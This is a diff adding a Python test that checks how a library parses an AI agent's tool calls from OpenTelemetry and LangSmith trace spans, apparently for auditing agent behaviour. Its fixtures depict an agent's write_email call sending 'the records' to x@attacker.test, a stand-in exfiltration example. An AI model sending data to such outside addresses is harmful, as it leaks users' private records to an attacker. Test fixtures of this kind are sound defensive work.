@@ -223,3 +223,39 @@ def test_a_call_listed_by_name_takes_its_traces_arguments_only_where_the_pairing
     assert with_arguments([sent, refused], [mail, mine]) == [sent, refused]
     # A call that shows its own arguments keeps them.
     assert with_arguments([mine], [mail]) == [mine]
+
+
+def test_langsmiths_export_and_tool_spans_that_record_no_input():
+    """LangSmith's OpenTelemetry export (LangGraph's usual tracing) records a tool run's input as
+    `gen_ai.prompt` and a model call's answer as LangChain's serialised generations; a tool span
+    of the GenAI conventions may record no input at all, and then ran what its request asked."""
+    from demarcate.testing.traces import Span as Received
+    from demarcate.testing.traces import tool_calls
+
+    def span(attrs: dict[str, str]) -> Received:
+        return Received(TRACE.hex(), "00f067aa0ba902b7", "", "span", attrs)
+
+    mail = {"to": "x@attacker.test", "subject": "Re: hello", "content": "the records"}
+    call = {"name": "write_email", "args": mail, "id": "call_7", "type": "tool_call"}
+    answered = span({"langsmith.span.kind": "llm", "gen_ai.operation.name": "chat", "gen_ai.completion": json.dumps(
+        {"generations": [[{"text": "", "generation_info": {"finish_reason": "tool_calls"}, "message": {
+            "lc": 1, "type": "constructor", "id": ["langchain", "schema", "messages", "AIMessage"],
+            "kwargs": {"content": "", "tool_calls": [call], "additional_kwargs": {"tool_calls": [
+                {"id": "call_7", "type": "function",
+                 "function": {"name": "write_email", "arguments": json.dumps(mail)}}]}}}}]]})})
+    assert tool_calls([answered]) == [{"name": "write_email", "arguments": mail, "status": "requested"}]
+    tool = span({"langsmith.span.kind": "tool", "gen_ai.operation.name": "execute_tool",
+                 "gen_ai.tool.name": "write_email", "gen_ai.prompt": json.dumps(mail),
+                 "gen_ai.completion": json.dumps({"output": "Email sent to x@attacker.test"})})
+    assert tool_calls([tool]) == [{"name": "write_email", "arguments": json.dumps(mail), "status": "ok"}]
+    assert tool_calls([answered, tool]) == [{"name": "write_email", "arguments": json.dumps(mail), "status": "ok"}]
+    # A tool span with no input: by its request's id, or as the only call of its name, it ran that request.
+    bare = span({"gen_ai.operation.name": "execute_tool", "gen_ai.tool.name": "write_email", "gen_ai.tool.call.id": "call_7"})
+    assert tool_calls([answered, bare]) == [{"name": "write_email", "arguments": mail, "status": "ok"}]
+    nameless = span({"gen_ai.operation.name": "execute_tool", "gen_ai.tool.name": "write_email"})
+    assert tool_calls([answered, nameless]) == [{"name": "write_email", "arguments": mail, "status": "ok"}]
+    # Two requests of the name and one bare run: which of them ran is not shown, so neither lends it its address.
+    mine = {**mail, "to": "me@company.example"}
+    two = span({"gen_ai.operation.name": "chat", "gen_ai.output.messages": json.dumps([{"role": "assistant", "parts": [
+        {"type": "tool_call", "name": "write_email", "arguments": args} for args in (mail, mine)]}])})
+    assert [c["arguments"] for c in tool_calls([two, nameless]) if c["status"] == "ok"] == [""]
